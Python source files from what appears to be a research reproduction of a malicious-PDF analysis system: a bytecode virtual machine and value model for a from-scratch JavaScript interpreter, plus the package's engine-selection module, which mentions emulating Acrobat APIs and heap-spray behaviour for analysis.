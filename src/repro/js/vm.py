"""Bytecode VM: executes :class:`repro.js.compiler.Code` fragments.

:class:`BytecodeInterpreter` subclasses the tree-walking
:class:`~repro.js.interpreter.Interpreter` and reuses its entire value
model, builtins, host wiring, ``_binary_op``, ``get_property`` and
construction/assignment kernels — only the evaluation loop is replaced.
The two engines are required to agree bit-for-bit on observed API
channels, monitor events, step counts and verdicts; anything the VM
cannot express identically (a JSProfile hotspot recorder, which
attributes time per AST node kind) transparently falls back to the
walker, the way enabling a debugger disables a JIT.

Step budgets are charged from per-instruction aggregated charges (see
the compiler's charge-aggregation notes).  When the budget blows, the
final ``steps`` value is clamped to ``max_steps + 1`` — exactly the
count the walker's per-node ``_tick`` leaves behind — because the
simulated reader advances its virtual clock by the step delta even for
aborted scripts.
"""

from __future__ import annotations

from types import FunctionType
from typing import Any, Dict, List, Optional, Tuple

from repro.js.builtins import STRING_METHODS
from repro.js.compiler import (
    Code,
    INIT_ARG,
    INIT_SELF,
    compile_function_body,
    compile_source,
)
from repro.js.errors import (
    BreakSignal,
    ContinueSignal,
    JSRuntimeError,
    JSThrow,
    ReaderCrash,
    ResourceLimitExceeded,
    ReturnSignal,
)
from repro.js.interpreter import Environment, Host, Interpreter
from repro.js.values import (
    JSArray,
    JSFunction,
    JSObject,
    NativeFunction,
    UNDEFINED,
    is_callable,
    strict_equals,
    to_int32,
    to_number,
    to_string,
    truthy,
    type_of,
)

#: Returned by a function-kind fragment that fell off the end without
#: executing RETURN.  Distinct from UNDEFINED: ``return;`` yields
#: UNDEFINED through RETURN, falling off yields this sentinel.
NO_RETURN = object()


class CompiledFunction(JSFunction):
    """A JSFunction that also carries its compiled Code.

    It *is* a JSFunction (real body AST + closure), so the walker can
    execute it, ``typeof``/``instanceof``/``prototype`` behave
    identically, and profiled runs can fall back to AST execution.
    """

    def __init__(self, code: Code, closure: Environment) -> None:
        assert code.body is not None
        super().__init__(code.name or None, list(code.params), code.body, closure)
        self.code = code


class BytecodeInterpreter(Interpreter):
    """Drop-in replacement for Interpreter backed by compiled bytecode."""

    def __init__(
        self,
        host: Optional[Host] = None,
        max_steps: int = 20_000_000,
        install_builtins: bool = True,
    ) -> None:
        super().__init__(host=host, max_steps=max_steps, install_builtins=install_builtins)
        # id(body) -> (body, code) for foreign (walker-created)
        # JSFunctions; the body reference keeps the id stable.
        self._foreign_codes: Dict[int, Tuple[Any, Code]] = {}

    # -- public API (same shape as the walker) ---------------------------

    def run(self, source: str, this: Any = None, env: Optional[Environment] = None) -> Any:
        if self._profile is not None:
            # JSProfile needs per-AST-node attribution: use the walker.
            return super().run(source, this, env)
        code = compile_source(source)
        scope = env if env is not None else self.global_env
        this_value = this if this is not None else self.global_this
        self._exec_hoist(code, scope)
        return self._run_code(code, scope, this_value, None)

    def eval_in_scope(self, code: Any, env: Environment, this: Any) -> Any:
        if self._profile is not None:
            return super().eval_in_scope(code, env, this)
        if not isinstance(code, str):
            return code
        compiled = compile_source(code)
        self._exec_hoist(compiled, env)
        return self._run_code(compiled, env, this, None)

    # -- calls -----------------------------------------------------------

    def _call_inner(self, fn: Any, this: Any, args: List[Any]) -> Any:
        if self._profile is not None:
            return super()._call_inner(fn, this, args)
        if isinstance(fn, CompiledFunction):
            return self._call_with_code(fn.code, fn, this, args)
        if isinstance(fn, NativeFunction):
            return fn.fn(self, this, args)
        if isinstance(fn, JSFunction):
            # A function object built outside this VM (e.g. by walker
            # code sharing the same globals): compile its body once.
            key = id(fn.body)
            entry = self._foreign_codes.get(key)
            if entry is None or entry[0] is not fn.body:
                entry = (fn.body, compile_function_body(fn.name, fn.params, fn.body))
                self._foreign_codes[key] = entry
            return self._call_with_code(entry[1], fn, this, args)
        raise JSRuntimeError("value is not callable", "TypeError")

    def _call_with_code(self, code: Code, fn: JSFunction, this: Any, args: List[Any]) -> Any:
        if code.mode == "slot":
            frame: Optional[List[Any]] = [UNDEFINED] * code.nlocals
            assert frame is not None
            nargs = len(args)
            for slot, kind, index, conditional in code.init_plan:
                if kind == INIT_SELF:
                    value: Any = fn
                elif kind == INIT_ARG:
                    value = args[index] if index < nargs else UNDEFINED
                else:
                    value = JSArray(list(args))
                if conditional and value is UNDEFINED:
                    # declare() on an existing binding ignores UNDEFINED.
                    continue
                frame[slot] = value
            env = fn.closure
        else:
            frame = None
            env = Environment(fn.closure)
            if fn.name:
                env.declare(fn.name, fn)
            for index, param in enumerate(code.params):
                env.declare(param, args[index] if index < len(args) else UNDEFINED)
            env.declare("arguments", JSArray(list(args)))
            self._exec_hoist(code, env)
        try:
            out = self._run_code(code, env, this, frame)
        except ReturnSignal as signal:
            # e.g. `eval("return x")` executed one level down.
            return signal.value
        return UNDEFINED if out is NO_RETURN else out

    def _exec_hoist(self, code: Code, env: Environment) -> None:
        for action in code.hoist_actions:
            if action[0] == "var":
                env.declare(action[1])
            else:
                fcode = action[1]
                env.declare(fcode.name, CompiledFunction(fcode, env))

    # -- try/catch/finally ------------------------------------------------

    def _exec_try(
        self,
        spec: Tuple[Code, Optional[str], Optional[Code], Optional[Code]],
        env: Environment,
        this: Any,
        frame: Optional[List[Any]],
    ) -> Any:
        try_code, catch_param, catch_code, finally_code = spec
        result: Any = UNDEFINED
        fatal = False
        try:
            result = self._run_code(try_code, env, this, frame)
        except (ReaderCrash, ResourceLimitExceeded):
            # Crash or engine abort: JS-level catch/finally never runs
            # (an instrumented epilogue must not fire after a hijack).
            fatal = True
            raise
        except JSThrow as thrown:
            if catch_code is None:
                raise
            catch_env = Environment(env)
            catch_env.declare(catch_param or "e", thrown.value)
            result = self._run_code(catch_code, catch_env, this, None)
        except JSRuntimeError as error:
            if catch_code is None:
                raise
            catch_env = Environment(env)
            error_obj = JSObject({"message": str(error), "name": error.kind})
            catch_env.declare(catch_param or "e", error_obj)
            result = self._run_code(catch_code, catch_env, this, None)
        finally:
            if finally_code is not None and not fatal:
                fout = self._run_code(finally_code, env, this, frame)
                if fout is not NO_RETURN and not finally_code.completion:
                    # `return` inside finally replaces any in-flight
                    # exception (Python's finally-return does exactly
                    # what the walker's propagating ReturnSignal did).
                    return fout
        return result

    # -- the dispatch loop -------------------------------------------------

    def _run_code(
        self,
        code: Code,
        env: Environment,
        this: Any,
        frame: Optional[List[Any]],
    ) -> Any:
        instrs = code.instrs
        if instrs is None:
            code.instrs = instrs = tuple(
                zip(code.ops, code.args, code.charges)
            )
        regions = code.regions
        completion = code.completion
        n = len(instrs)
        max_steps = self.max_steps
        steps = self.steps
        stack: List[Any] = []
        iters: List[Any] = []
        compl: Any = UNDEFINED
        pc = 0
        ip = 0
        # Hot-loop locals: every dispatch avoids the attribute walks.
        push = stack.append
        pop = stack.pop
        env_lookup = env.lookup
        get_property = self.get_property
        record_string = self._record_string
        binary_op = self._binary_op
        try:
            while True:
                try:
                    while pc < n:
                        ip = pc
                        op, arg, c = instrs[ip]
                        pc = ip + 1
                        if c:
                            steps += c
                            if steps > max_steps:
                                # Clamp so the final count equals the
                                # walker's (it raises at max+1); the
                                # reader bills virtual time by delta.
                                steps = max_steps + 1
                                self.steps = steps
                                raise ResourceLimitExceeded(
                                    "js-steps", max_steps,
                                    "script exceeded its step budget",
                                )
                        if op == 0:  # LOAD_NAME
                            push(env_lookup(arg))
                        elif op == 1:  # LOAD_SLOT
                            push(frame[arg])  # type: ignore[index]
                        elif op == 55:  # INC_SLOT (fused i++/i-- statement)
                            s, delta = arg
                            value = frame[s]  # type: ignore[index]
                            if type(value) is not float:
                                value = to_number(value)
                            frame[s] = value + delta  # type: ignore[index]
                        elif op == 56:  # STORE_SLOT_POP
                            frame[arg] = pop()  # type: ignore[index]
                        elif op == 2:  # CONST
                            push(arg)
                        elif op == 3:  # STRING
                            # record_string ignores strings under 2 chars.
                            if len(arg) < 2:
                                push(arg)
                            else:
                                push(record_string(arg))
                        elif op == 4:  # BINARY
                            right = pop()
                            left = stack[-1]
                            if type(left) is float and type(right) is float:
                                # All-float arithmetic/comparisons inline;
                                # Python float NaN semantics already match
                                # _binary_op's (NaN compares false, NaN
                                # propagates through + - *).
                                if arg == "+":
                                    stack[-1] = left + right
                                elif arg == "<":
                                    stack[-1] = left < right
                                elif arg == "-":
                                    stack[-1] = left - right
                                elif arg == "*":
                                    stack[-1] = left * right
                                elif arg == ">":
                                    stack[-1] = left > right
                                elif arg == "<=":
                                    stack[-1] = left <= right
                                elif arg == ">=":
                                    stack[-1] = left >= right
                                elif arg == "===" or arg == "==":
                                    stack[-1] = left == right
                                elif arg == "!==" or arg == "!=":
                                    stack[-1] = left != right
                                elif (
                                    (arg == "^" or arg == "&" or arg == "|")
                                    and -2147483648.0 <= left <= 2147483647.0
                                    and -2147483648.0 <= right <= 2147483647.0
                                ):
                                    # In-range int32 operands: int()
                                    # truncation equals to_int32 here
                                    # (NaN fails the range check).
                                    li = int(left)
                                    ri = int(right)
                                    if arg == "^":
                                        stack[-1] = float(li ^ ri)
                                    elif arg == "&":
                                        stack[-1] = float(li & ri)
                                    else:
                                        stack[-1] = float(li | ri)
                                else:
                                    stack[-1] = binary_op(arg, left, right)
                            elif (
                                arg == "+"
                                and type(left) is str
                                and type(right) is str
                            ):
                                stack[-1] = record_string(left + right)
                            else:
                                stack[-1] = binary_op(arg, left, right)
                        elif op == 5:  # STORE_SLOT
                            frame[arg] = stack[-1]  # type: ignore[index]
                        elif op == 6:  # STORE_NAME
                            env.assign(arg, stack[-1])
                        elif op == 7:  # JUMP_IF_FALSE
                            value = pop()
                            if value is False:
                                pc = arg
                            elif value is not True and not truthy(value):
                                pc = arg
                        elif op == 8:  # JUMP
                            pc = arg
                        elif op == 9:  # POP
                            pop()
                        elif op == 10:  # MEMBER_GET
                            obj = stack[-1]
                            tobj = type(obj)
                            if tobj is str:
                                if arg == "length":
                                    stack[-1] = float(len(obj))
                                else:
                                    stack[-1] = get_property(obj, arg)
                            elif (
                                (
                                    tobj is JSObject
                                    or tobj is NativeFunction
                                    or tobj is CompiledFunction
                                    or tobj is JSFunction
                                )
                                and arg in obj.properties
                            ):
                                # Own-property hit on a non-array object:
                                # exactly get_property's first branch.
                                stack[-1] = obj.properties[arg]
                            else:
                                stack[-1] = get_property(obj, arg)
                        elif op == 11:  # CALL_THIS
                            name, argc = arg
                            if argc:
                                call_args = stack[-argc:]
                                del stack[-argc:]
                            else:
                                call_args = []
                            fn = pop()
                            receiver = pop()
                            tfn = type(fn)
                            if tfn is FunctionType:
                                # String-method fast path: fn is the raw
                                # builtin from STRING_METHODS.
                                push(fn(self, receiver, call_args))
                            elif tfn is NativeFunction:
                                self.steps = steps
                                result = fn.fn(self, receiver, call_args)
                                steps = self.steps
                                push(result)
                            elif tfn is CompiledFunction:
                                self.steps = steps
                                result = self._call_with_code(
                                    fn.code, fn, receiver, call_args
                                )
                                steps = self.steps
                                push(result)
                            else:
                                if not is_callable(fn):
                                    raise JSRuntimeError(
                                        f"{name} is not a function", "TypeError"
                                    )
                                self.steps = steps
                                result = self._call_inner(fn, receiver, call_args)
                                steps = self.steps
                                push(result)
                        elif op == 12:  # METHOD_LOOKUP
                            receiver = stack[-1]
                            trec = type(receiver)
                            if trec is str:
                                fn = STRING_METHODS.get(arg)
                                if fn is None:
                                    fn = get_property(receiver, arg)
                            elif (
                                (
                                    trec is JSObject
                                    or trec is NativeFunction
                                    or trec is CompiledFunction
                                    or trec is JSFunction
                                )
                                and arg in receiver.properties
                            ):
                                fn = receiver.properties[arg]
                            else:
                                fn = get_property(receiver, arg)
                            push(fn)
                        elif op == 13:  # CALL
                            argc = arg
                            if argc:
                                call_args = stack[-argc:]
                                del stack[-argc:]
                            else:
                                call_args = []
                            fn = pop()
                            tfn = type(fn)
                            if tfn is CompiledFunction:
                                self.steps = steps
                                result = self._call_with_code(
                                    fn.code, fn, self.global_this, call_args
                                )
                                steps = self.steps
                                push(result)
                            elif tfn is NativeFunction:
                                self.steps = steps
                                result = fn.fn(self, self.global_this, call_args)
                                steps = self.steps
                                push(result)
                            else:
                                if not is_callable(fn):
                                    raise JSRuntimeError(
                                        "value is not a function", "TypeError"
                                    )
                                self.steps = steps
                                result = self._call_inner(
                                    fn, self.global_this, call_args
                                )
                                steps = self.steps
                                push(result)
                        elif op == 14:  # SET_COMPL
                            compl = pop()
                        elif op == 15:  # SET_COMPL_UNDEF
                            compl = UNDEFINED
                        elif op == 16:  # DUP
                            push(stack[-1])
                        elif op == 17:  # INCDEC
                            stack[-1] = stack[-1] + arg
                        elif op == 18:  # TO_NUMBER
                            value = stack[-1]
                            if type(value) is not float:
                                stack[-1] = to_number(value)
                        elif op == 19:  # JUMP_IF_TRUE
                            value = pop()
                            if value is True:
                                pc = arg
                            elif value is not False and truthy(value):
                                pc = arg
                        elif op == 20:  # JUMP_IF_FALSE_KEEP (&&)
                            value = stack[-1]
                            if value is True or (value is not False and truthy(value)):
                                pop()
                            else:
                                pc = arg
                        elif op == 21:  # JUMP_IF_TRUE_KEEP (||)
                            value = stack[-1]
                            if value is True or (value is not False and truthy(value)):
                                pc = arg
                            else:
                                pop()
                        elif op == 22:  # JUMP_IF_STRICT_EQ
                            test = pop()
                            if strict_equals(stack[-1], test):
                                pc = arg
                        elif op == 23:  # SWAP
                            stack[-1], stack[-2] = stack[-2], stack[-1]
                        elif op == 24:  # ROT3 (third-from-top to top)
                            third = stack[-3]
                            stack[-3] = stack[-2]
                            stack[-2] = stack[-1]
                            stack[-1] = third
                        elif op == 25:  # MEMBER_GET_EXPR
                            name = to_string(pop())
                            stack[-1] = self.get_property(stack[-1], name)
                        elif op == 26:  # MEMBER_SET
                            value = pop()
                            obj = pop()
                            self._set_member_value(obj, arg, value)
                            push(value)
                        elif op == 27:  # MEMBER_SET_EXPR
                            value = pop()
                            name = to_string(pop())
                            obj = pop()
                            self._set_member_value(obj, name, value)
                            push(value)
                        elif op == 28:  # METHOD_LOOKUP_EXPR
                            name = to_string(pop())
                            receiver = stack[-1]
                            if type(receiver) is str:
                                fn = STRING_METHODS.get(name)
                                if fn is None:
                                    fn = self.get_property(receiver, name)
                            else:
                                fn = self.get_property(receiver, name)
                            push(fn)
                            push(name)
                        elif op == 29:  # CALL_THIS_DYN
                            argc = arg
                            if argc:
                                call_args = stack[-argc:]
                                del stack[-argc:]
                            else:
                                call_args = []
                            name = pop()
                            fn = pop()
                            receiver = pop()
                            tfn = type(fn)
                            if tfn is FunctionType:
                                push(fn(self, receiver, call_args))
                            elif tfn is NativeFunction:
                                self.steps = steps
                                result = fn.fn(self, receiver, call_args)
                                steps = self.steps
                                push(result)
                            elif tfn is CompiledFunction:
                                self.steps = steps
                                result = self._call_with_code(
                                    fn.code, fn, receiver, call_args
                                )
                                steps = self.steps
                                push(result)
                            else:
                                if not is_callable(fn):
                                    raise JSRuntimeError(
                                        f"{name} is not a function", "TypeError"
                                    )
                                self.steps = steps
                                result = self._call_inner(fn, receiver, call_args)
                                steps = self.steps
                                push(result)
                        elif op == 30:  # DIRECT_EVAL
                            argc = arg
                            if argc:
                                call_args = stack[-argc:]
                                del stack[-argc:]
                                value = call_args[0]
                            else:
                                value = UNDEFINED
                            self.steps = steps
                            result = self.eval_in_scope(value, env, this)
                            steps = self.steps
                            push(result)
                        elif op == 31:  # NEW
                            argc = arg
                            if argc:
                                call_args = stack[-argc:]
                                del stack[-argc:]
                            else:
                                call_args = []
                            fn = pop()
                            self.steps = steps
                            result = self._construct(fn, call_args)
                            steps = self.steps
                            push(result)
                        elif op == 32:  # MAKE_FUNCTION
                            push(CompiledFunction(arg, env))
                        elif op == 33:  # ARRAY
                            count = arg
                            if count:
                                elements = stack[-count:]
                                del stack[-count:]
                            else:
                                elements = []
                            push(JSArray(elements))
                        elif op == 34:  # OBJECT
                            keys = arg
                            count = len(keys)
                            obj = JSObject()
                            if count:
                                values = stack[-count:]
                                del stack[-count:]
                                for key, value in zip(keys, values):
                                    obj.set(key, value)
                            push(obj)
                        elif op == 35:  # UNARY
                            value = pop()
                            if arg == "!":
                                push(not truthy(value))
                            elif arg == "-":
                                push(-to_number(value))
                            elif arg == "+":
                                push(to_number(value))
                            elif arg == "~":
                                push(float(~to_int32(value)))
                            elif arg == "void":
                                push(UNDEFINED)
                            else:
                                raise JSRuntimeError(f"unknown unary operator {arg}")
                        elif op == 36:  # TYPEOF
                            stack[-1] = type_of(stack[-1])
                        elif op == 37:  # TYPEOF_NAME
                            if env.has(arg):
                                push(type_of(env.lookup(arg)))
                            else:
                                push("undefined")
                        elif op == 38:  # DELETE_MEMBER
                            obj = pop()
                            if isinstance(obj, JSObject):
                                push(obj.delete(arg))
                            else:
                                push(True)
                        elif op == 39:  # DELETE_MEMBER_EXPR
                            name = to_string(pop())
                            obj = pop()
                            if isinstance(obj, JSObject):
                                push(obj.delete(name))
                            else:
                                push(True)
                        elif op == 40:  # DECLARE
                            env.declare(arg)
                        elif op == 41:  # DECLARE_POP
                            env.declare(arg, pop())
                        elif op == 42:  # DECLARE_SLOT_POP
                            value = pop()
                            if value is not UNDEFINED:
                                frame[arg] = value  # type: ignore[index]
                        elif op == 43:  # LOAD_THIS
                            push(this)
                        elif op == 44:  # RETURN
                            return pop()
                        elif op == 45:  # RAISE_RETURN
                            raise ReturnSignal(pop())
                        elif op == 46:  # RAISE_BREAK
                            raise BreakSignal(arg)
                        elif op == 47:  # RAISE_CONTINUE
                            raise ContinueSignal(arg)
                        elif op == 48:  # THROW
                            raise JSThrow(pop())
                        elif op == 49:  # EXEC_TRY
                            self.steps = steps
                            result = self._exec_try(arg, env, this, frame)
                            steps = self.steps
                            if completion:
                                compl = result
                            elif result is not NO_RETURN:
                                return result
                        elif op == 50:  # FORIN_INIT
                            obj = pop()
                            if isinstance(obj, JSObject):
                                keys = obj.keys()
                            elif isinstance(obj, str):
                                keys = [str(index) for index in range(len(obj))]
                            else:
                                keys = ()
                            iters.append(iter(keys))
                        elif op == 51:  # FORIN_NEXT
                            end_pc, mode, payload = arg
                            key = next(iters[-1], _EXHAUSTED)
                            if key is _EXHAUSTED:
                                iters.pop()
                                pc = end_pc
                            else:
                                # Per-iteration target charge (the
                                # documented charging rule).
                                steps += 1
                                if steps > max_steps:
                                    steps = max_steps + 1
                                    self.steps = steps
                                    raise ResourceLimitExceeded(
                                        "js-steps", max_steps,
                                        "script exceeded its step budget",
                                    )
                                if mode == 0:  # FORIN_NAME
                                    env.assign(payload, key)
                                elif mode == 1:  # FORIN_SLOT
                                    frame[payload] = key  # type: ignore[index]
                                else:  # FORIN_PUSH
                                    push(key)
                        elif op == 52:  # POP_ITER
                            iters.pop()
                        elif op == 53:  # RAISE_ERROR
                            raise JSRuntimeError(arg[0], arg[1])
                        else:  # NOP (54) — charge carrier
                            pass
                    # Fell off the end of the fragment.
                    if completion:
                        return compl
                    return NO_RETURN
                except BreakSignal:
                    target = -1
                    depth = 0
                    for start, end, break_pc, _continue_pc, bd, _cd in regions:
                        if start <= ip < end:
                            target = break_pc
                            depth = bd
                            break
                    if target < 0:
                        raise
                    # Statement boundaries always leave the value stack
                    # empty, so anything on it is mid-expression debris.
                    del stack[:]
                    del iters[depth:]
                    pc = target
                except ContinueSignal:
                    target = -1
                    depth = 0
                    for start, end, _break_pc, continue_pc, _bd, cd in regions:
                        if start <= ip < end and continue_pc >= 0:
                            target = continue_pc
                            depth = cd
                            break
                    if target < 0:
                        raise
                    del stack[:]
                    del iters[depth:]
                    pc = target
        finally:
            if self.steps < steps:
                self.steps = steps


_EXHAUSTED = object()
