"""Runtime value model for the JavaScript engine.

Mapping to Python:

========================  =========================================
JS value                  Python representation
========================  =========================================
``undefined``             the :data:`UNDEFINED` singleton
``null``                  ``None``
booleans                  ``bool``
numbers                   ``float`` (NaN/Infinity included)
strings                   ``str``
objects                   :class:`JSObject`
arrays                    :class:`JSArray`
functions                 :class:`JSFunction` / :class:`NativeFunction`
========================  =========================================
"""

from __future__ import annotations

import math
from typing import Any, Callable, Dict, List, Optional, TYPE_CHECKING

if TYPE_CHECKING:
    from repro.js import nodes as ast
    from repro.js.interpreter import Environment, Interpreter


class _Undefined:
    """The JS ``undefined`` singleton."""

    _instance: Optional["_Undefined"] = None

    def __new__(cls) -> "_Undefined":
        if cls._instance is None:
            cls._instance = super().__new__(cls)
        return cls._instance

    def __repr__(self) -> str:
        return "undefined"

    def __bool__(self) -> bool:
        return False


UNDEFINED = _Undefined()


class JSObject:
    """A generic JS object: a property map with an optional prototype."""

    def __init__(
        self,
        properties: Optional[Dict[str, Any]] = None,
        class_name: str = "Object",
        prototype: Optional["JSObject"] = None,
    ) -> None:
        self.properties: Dict[str, Any] = dict(properties or {})
        self.class_name = class_name
        self.prototype = prototype

    def get(self, name: str) -> Any:
        if name in self.properties:
            return self.properties[name]
        if self.prototype is not None:
            return self.prototype.get(name)
        return UNDEFINED

    def has(self, name: str) -> bool:
        if name in self.properties:
            return True
        return self.prototype is not None and self.prototype.has(name)

    def set(self, name: str, value: Any) -> None:
        self.properties[name] = value

    def delete(self, name: str) -> bool:
        return self.properties.pop(name, None) is not None

    def keys(self) -> List[str]:
        return list(self.properties)

    def __repr__(self) -> str:
        return f"JSObject({self.class_name}, {len(self.properties)} props)"


class JSArray(JSObject):
    """A JS array backed by a Python list."""

    def __init__(self, elements: Optional[List[Any]] = None) -> None:
        super().__init__(class_name="Array")
        self.elements: List[Any] = list(elements or [])

    def get(self, name: str) -> Any:
        if name == "length":
            return float(len(self.elements))
        index = _array_index(name)
        if index is not None:
            if 0 <= index < len(self.elements):
                return self.elements[index]
            return UNDEFINED
        return super().get(name)

    def set(self, name: str, value: Any) -> None:
        if name == "length":
            new_len = int(value)
            current = len(self.elements)
            if new_len < current:
                del self.elements[new_len:]
            else:
                self.elements.extend([UNDEFINED] * (new_len - current))
            return
        index = _array_index(name)
        if index is not None:
            if index >= len(self.elements):
                self.elements.extend([UNDEFINED] * (index + 1 - len(self.elements)))
            self.elements[index] = value
            return
        super().set(name, value)

    def has(self, name: str) -> bool:
        if name == "length":
            return True
        index = _array_index(name)
        if index is not None:
            return 0 <= index < len(self.elements)
        return super().has(name)

    def keys(self) -> List[str]:
        return [str(i) for i in range(len(self.elements))] + list(self.properties)

    def __repr__(self) -> str:
        return f"JSArray({self.elements!r})"


def _array_index(name: str) -> Optional[int]:
    if name.isdigit() or (name.startswith("-") and name[1:].isdigit()):
        return int(name)
    return None


class JSFunction(JSObject):
    """A user-defined function: parameters + body + closure scope."""

    def __init__(
        self,
        name: Optional[str],
        params: List[str],
        body: "ast.Block",
        closure: "Environment",
    ) -> None:
        super().__init__(class_name="Function")
        self.name = name or ""
        self.params = params
        self.body = body
        self.closure = closure

    def __repr__(self) -> str:
        return f"JSFunction({self.name or '<anonymous>'})"


class NativeFunction(JSObject):
    """A host function exposed to JS.

    ``fn`` receives ``(interpreter, this, args)`` and returns a JS value.
    """

    def __init__(self, name: str, fn: Callable[["Interpreter", Any, List[Any]], Any]) -> None:
        super().__init__(class_name="Function")
        self.name = name
        self.fn = fn

    def __repr__(self) -> str:
        return f"NativeFunction({self.name})"


# ---------------------------------------------------------------------------
# Coercions (ES3 semantics, simplified)


def is_callable(value: Any) -> bool:
    return isinstance(value, (JSFunction, NativeFunction))


def truthy(value: Any) -> bool:
    if value is UNDEFINED or value is None:
        return False
    if isinstance(value, bool):
        return value
    if isinstance(value, float):
        return value != 0 and not math.isnan(value)
    if isinstance(value, int):
        return value != 0
    if isinstance(value, str):
        return bool(value)
    return True


def to_number(value: Any) -> float:
    if isinstance(value, bool):
        return 1.0 if value else 0.0
    if isinstance(value, (int, float)):
        return float(value)
    if value is UNDEFINED:
        return math.nan
    if value is None:
        return 0.0
    if isinstance(value, str):
        text = value.strip()
        if not text:
            return 0.0
        try:
            if text.startswith(("0x", "0X")):
                return float(int(text, 16))
            return float(text)
        except ValueError:
            return math.nan
    if isinstance(value, JSArray):
        if not value.elements:
            return 0.0
        if len(value.elements) == 1:
            return to_number(value.elements[0])
        return math.nan
    return math.nan


def to_int32(value: Any) -> int:
    number = to_number(value)
    if math.isnan(number) or math.isinf(number):
        return 0
    result = int(number) & 0xFFFFFFFF
    if result >= 0x80000000:
        result -= 0x100000000
    return result


def to_uint32(value: Any) -> int:
    number = to_number(value)
    if math.isnan(number) or math.isinf(number):
        return 0
    return int(number) & 0xFFFFFFFF


def format_number(value: float) -> str:
    if math.isnan(value):
        return "NaN"
    if math.isinf(value):
        return "Infinity" if value > 0 else "-Infinity"
    if value == int(value) and abs(value) < 1e21:
        return str(int(value))
    return repr(value)


def to_string(value: Any) -> str:
    if isinstance(value, str):
        return value
    if value is UNDEFINED:
        return "undefined"
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return format_number(float(value))
    if isinstance(value, JSArray):
        return ",".join(
            "" if (item is UNDEFINED or item is None) else to_string(item)
            for item in value.elements
        )
    if isinstance(value, (JSFunction, NativeFunction)):
        name = getattr(value, "name", "")
        return f"function {name}() {{ [code] }}"
    if isinstance(value, JSObject):
        custom = value.get("toString")
        if is_callable(custom):
            # The interpreter handles calling custom toString; from raw
            # coercion context we fall back to the generic tag.
            pass
        return f"[object {value.class_name}]"
    return str(value)


def type_of(value: Any) -> str:
    if value is UNDEFINED:
        return "undefined"
    if value is None:
        return "object"
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, (int, float)):
        return "number"
    if isinstance(value, str):
        return "string"
    if is_callable(value):
        return "function"
    return "object"


def loose_equals(a: Any, b: Any) -> bool:
    """The ``==`` algorithm (simplified but faithful for our types)."""
    if (a is UNDEFINED or a is None) and (b is UNDEFINED or b is None):
        return True
    if a is UNDEFINED or a is None or b is UNDEFINED or b is None:
        return False
    if isinstance(a, str) and isinstance(b, str):
        return a == b
    if isinstance(a, (JSObject,)) and isinstance(b, (JSObject,)):
        return a is b
    if isinstance(a, JSObject) or isinstance(b, JSObject):
        return to_string(a) == to_string(b) or to_number(a) == to_number(b)
    number_a, number_b = to_number(a), to_number(b)
    if math.isnan(number_a) or math.isnan(number_b):
        return False
    return number_a == number_b


def strict_equals(a: Any, b: Any) -> bool:
    if type_of(a) != type_of(b):
        return False
    if isinstance(a, str):
        return a == b
    if isinstance(a, bool) or isinstance(b, bool):
        return a is b
    if isinstance(a, (int, float)) and isinstance(b, (int, float)):
        fa, fb = float(a), float(b)
        if math.isnan(fa) or math.isnan(fb):
            return False
        return fa == fb
    if a is UNDEFINED or a is None:
        return a is b
    return a is b
