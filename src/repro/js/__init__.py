"""A from-scratch JavaScript interpreter (ES3-ish subset).

Built because the paper's instrumentation executes *inside* the PDF
reader's JavaScript engine: the context monitoring code must really run
(`eval`, SOAP messaging, decryption of the wrapped script), heap-spray
loops must really allocate, and the Acrobat object model
(``app.setTimeOut``, ``Doc.addScript``, ``Collab.*`` …) must really
dispatch — including into the version-gated exploit registry.

Public surface::

    from repro.js import Interpreter, JSRuntimeError, evaluate
    result = evaluate("var x = 2; x * 21")   # -> 42.0
"""

import os
from typing import Optional

from repro.js.errors import JSRuntimeError, JSSyntaxError, ResourceLimitExceeded
from repro.js.interpreter import Interpreter, evaluate
from repro.js.values import JSArray, JSFunction, JSObject, UNDEFINED

#: Engines selectable via ``PipelineSettings.js_engine`` / ``--js-engine``.
#: "ast" is the reference tree-walker; "bytecode" is the compiled engine
#: (repro.js.compiler + repro.js.vm), proven equivalent by the differential
#: suite and the default since PR 7.
JS_ENGINES = ("ast", "bytecode")
DEFAULT_JS_ENGINE = "bytecode"

_ENGINE_ENV_VAR = "REPRO_JS_ENGINE"


def resolve_js_engine(value: Optional[str] = None) -> str:
    """Resolve an engine selection to a concrete engine name.

    Precedence: explicit ``value`` -> ``REPRO_JS_ENGINE`` env var ->
    :data:`DEFAULT_JS_ENGINE`.  Raises ``ValueError`` on unknown names so a
    typo in configuration fails loudly instead of silently scanning with the
    wrong engine.
    """
    if value is None:
        value = os.environ.get(_ENGINE_ENV_VAR) or None
    if value is None:
        return DEFAULT_JS_ENGINE
    if value not in JS_ENGINES:
        raise ValueError(
            f"unknown JS engine {value!r} (expected one of {', '.join(JS_ENGINES)})"
        )
    return value


def make_interpreter(
    engine: Optional[str] = None,
    *,
    host: object = None,
    max_steps: int = 2_000_000,
) -> Interpreter:
    """Construct the selected JS engine (see :func:`resolve_js_engine`).

    The bytecode VM is imported lazily so merely importing ``repro.js``
    never pays for (or depends on) the compiler.
    """
    resolved = resolve_js_engine(engine)
    if resolved == "bytecode":
        from repro.js.vm import BytecodeInterpreter

        return BytecodeInterpreter(host=host, max_steps=max_steps)
    return Interpreter(host=host, max_steps=max_steps)


__all__ = [
    "DEFAULT_JS_ENGINE",
    "Interpreter",
    "JSArray",
    "JSFunction",
    "JSObject",
    "JSRuntimeError",
    "JSSyntaxError",
    "JS_ENGINES",
    "ResourceLimitExceeded",
    "UNDEFINED",
    "evaluate",
    "make_interpreter",
    "resolve_js_engine",
]
