"""A from-scratch JavaScript interpreter (ES3-ish subset).

Built because the paper's instrumentation executes *inside* the PDF
reader's JavaScript engine: the context monitoring code must really run
(`eval`, SOAP messaging, decryption of the wrapped script), heap-spray
loops must really allocate, and the Acrobat object model
(``app.setTimeOut``, ``Doc.addScript``, ``Collab.*`` …) must really
dispatch — including into the version-gated exploit registry.

Public surface::

    from repro.js import Interpreter, JSRuntimeError, evaluate
    result = evaluate("var x = 2; x * 21")   # -> 42.0
"""

from repro.js.errors import JSRuntimeError, JSSyntaxError, ResourceLimitExceeded
from repro.js.interpreter import Interpreter, evaluate
from repro.js.values import JSArray, JSFunction, JSObject, UNDEFINED

__all__ = [
    "Interpreter",
    "JSArray",
    "JSFunction",
    "JSObject",
    "JSRuntimeError",
    "JSSyntaxError",
    "ResourceLimitExceeded",
    "UNDEFINED",
    "evaluate",
]
